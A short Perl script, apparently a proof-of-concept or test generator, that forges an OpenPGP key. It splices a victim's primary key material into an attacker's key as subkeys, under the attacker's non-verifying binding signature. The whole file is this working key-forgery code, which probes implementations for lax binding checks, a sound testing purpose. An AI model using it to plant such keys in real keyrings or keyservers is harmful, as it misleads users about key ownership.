#!/usr/bin/perl
# claim-key.pl VICTIM.asc ATTACKER.asc > key.gpg
# The attacker's armored public key (which must have a subkey) with
# each subkey packet replaced by one that carries the victim's PRIMARY
# key material, the attacker's binding signature after it (which does
# not verify for it).  Binary OpenPGP on stdout.  Anyone can make it
# from public keys: it claims a key nobody can sign with.
use strict;
use warnings;
use MIME::Base64;

sub dearmor {
	my ($f) = @_;
	open(my $fh, '<', $f) or die "$f: $!";
	my @l = <$fh>;
	close $fh;
	my ($in, $hdr, $b64) = (0, 0, '');
	for (@l) {
		s/\r?\n$//;
		if (/^-----BEGIN/) { $in = 1; $hdr = 1; next; }
		last if /^-----END/;
		next unless $in;
		if ($hdr) { $hdr = 0 if $_ eq ''; next; }
		next if /^=/;
		$b64 .= $_;
	}
	return decode_base64($b64);
}

# [tag, whole packet, body] for each packet
sub packets {
	my ($b) = @_;
	my @p;
	my $i = 0;
	while ($i < length $b) {
		my $h = ord substr($b, $i, 1);
		my ($tag, $len, $j);
		if ($h & 0x40) {
			$tag = $h & 0x3f;
			my $l = ord substr($b, $i + 1, 1);
			if ($l < 192) { $len = $l; $j = $i + 2; }
			elsif ($l < 224) {
				$len = (($l - 192) << 8) +
				    ord(substr($b, $i + 2, 1)) + 192;
				$j = $i + 3;
			} else {
				$len = unpack('N', substr($b, $i + 2, 4));
				$j = $i + 6;
			}
		} else {
			$tag = ($h >> 2) & 0xf;
			my $lt = $h & 3;
			if ($lt == 0) { $len = ord substr($b, $i + 1, 1); $j = $i + 2; }
			elsif ($lt == 1) { $len = unpack('n', substr($b, $i + 1, 2)); $j = $i + 3; }
			else { $len = unpack('N', substr($b, $i + 1, 4)); $j = $i + 5; }
		}
		push @p, [$tag, substr($b, $i, $j + $len - $i), substr($b, $j, $len)];
		$i = $j + $len;
	}
	return @p;
}

my @v = packets(dearmor($ARGV[0]));
my @a = packets(dearmor($ARGV[1]));
die "no primary key in $ARGV[0]\n" unless $v[0][0] == 6;
my $body = $v[0][2];
die "key too long\n" if length $body >= 192;
my $sub = chr(0xc0 | 14) . chr(length $body) . $body;
binmode STDOUT;
print $_->[0] == 14 ? $sub : $_->[1] for @a;
